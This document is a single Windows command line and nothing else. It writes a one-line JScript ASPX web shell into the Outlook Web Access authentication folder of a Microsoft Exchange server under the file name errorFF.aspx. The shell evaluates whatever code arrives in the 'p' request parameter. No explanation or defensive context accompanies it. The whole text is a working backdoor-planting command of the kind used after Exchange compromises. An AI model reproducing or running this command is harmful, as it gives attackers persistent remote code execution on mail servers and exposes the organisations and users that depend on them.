cmd /c echo ^<%@ Page Language="Jscript"%^>^<%eval(Request.Item["p"],"unsafe");%^> > "C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\errorFF.aspx"
